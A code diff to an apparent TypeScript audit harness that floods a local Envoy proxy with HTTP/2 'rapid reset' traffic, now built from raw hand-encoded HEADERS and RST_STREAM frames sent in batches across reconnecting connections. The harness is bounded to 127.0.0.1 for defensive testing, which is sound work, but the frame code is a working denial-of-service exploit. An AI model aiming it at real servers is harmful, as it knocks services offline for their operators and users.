@@ -4,7 +4,6 @@
  * that disconnect mid-request at a set rate, idle connections, concurrent requests. Everything goes to
  * 127.0.0.1 and stops at a count or a duration, whichever comes first.
  */
-import * as http2 from 'node:http2';
 import { connect, type Socket } from 'node:net';
 import { rawHttp } from '../../../test/support/http-raw.js';
 import { LIMIT } from './stack.js';
@@ -108,10 +107,38 @@ export interface ResetResult {
   connections: number;
 }
 
+/** An HTTP/2 frame: 3-byte length, type, flags, stream id. */
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
 /**
- * HTTP/2 rapid reset at Envoy: on `connections` connections at once, open a stream on `/open` and reset it at
- * once (HEADERS, RST_STREAM CANCEL), in batches, until `durationMs` or `maxResets`; a connection Envoy closes
- * (its premature-reset protection) is replaced.
+ * HEADERS (GET http://audit/open, END_STREAM) then RST_STREAM CANCEL, on streams `first`, `first + 2`, …: HPACK
+ * :method GET (static 2), :scheme http (static 6), :path and :authority as literals with indexed names.
+ */
+function resetBatch(first: number, count: number): Buffer {
+  const block = Buffer.from([0x82, 0x86, 0x04, 5, ...Buffer.from('/open'), 0x01, 5, ...Buffer.from('audit')]);
+  const cancel = Buffer.from([0, 0, 0, 8]);
+  const frames: Buffer[] = [];
+  for (let i = 0; i < count; i++) {
+    const id = first + 2 * i;
+    frames.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel));
+  }
+  return Buffer.concat(frames);
+}
+
+const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]);
+
+/**
+ * HTTP/2 rapid reset at Envoy, as an attacker sends it (frames written directly, so the client's own CPU is not
+ * the limit): on `connections` connections at once, streams on `/open` opened and reset at once (HEADERS,
+ * RST_STREAM CANCEL) in batches of 100, until `durationMs` or `maxResets`; a connection Envoy closes (its
+ * premature-reset protection) is replaced.
  */
 export async function rapidReset(port: number, o: { durationMs: number; connections: number; maxResets: number }): Promise<ResetResult> {
   const until = Date.now() + o.durationMs;
@@ -119,27 +146,26 @@ export async function rapidReset(port: number, o: { durationMs: number; connecti
   const worker = async (): Promise<void> => {
     while (Date.now() < until && result.resets < o.maxResets) {
       result.connections++;
-      const session = http2.connect(`http://127.0.0.1:${port}`);
-      session.on('error', () => undefined);
-      const closed = new Promise<void>((resolve) => session.once('close', () => resolve()));
+      const socket = connect({ host: '127.0.0.1', port });
+      let open = true;
+      socket.on('error', () => undefined);
+      socket.on('data', () => undefined); // Envoy's SETTINGS, answers and GOAWAY: read and dropped
+      const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+      void closed.then(() => (open = false));
       await new Promise<void>((resolve) => {
-        session.once('connect', () => resolve());
-        session.once('close', () => resolve());
+        socket.once('connect', () => resolve());
+        socket.once('close', () => resolve());
       });
-      while (!session.closed && !session.destroyed && Date.now() < until && result.resets < o.maxResets) {
-        for (let i = 0; i < 50 && !session.closed && !session.destroyed; i++) {
-          try {
-            const stream = session.request({ ':method': 'GET', ':path': '/open' }, { endStream: true });
-            stream.on('error', () => undefined);
-            stream.close(http2.constants.NGHTTP2_CANCEL);
-            result.resets++;
-          } catch {
-            break; // the session is going away
-          }
-        }
+      if (open) socket.write(Buffer.concat([PREFACE, frame(0x4, 0x1, 0, Buffer.alloc(0))])); // our SETTINGS, and ACK of Envoy's
+      let next = 1;
+      while (open && Date.now() < until && result.resets < o.maxResets && next < 2 ** 30) {
+        // wait for the socket to drain: at most one batch queued, so the rate is what Envoy reads
+        if (!socket.write(resetBatch(next, 100))) await new Promise<void>((resolve) => socket.once('drain', () => resolve()).once('close', () => resolve()));
+        next += 200;
+        result.resets += 100;
         await new Promise<void>((resolve) => setImmediate(resolve));
       }
-      session.destroy();
+      socket.destroy();
       await closed;
     }
   };
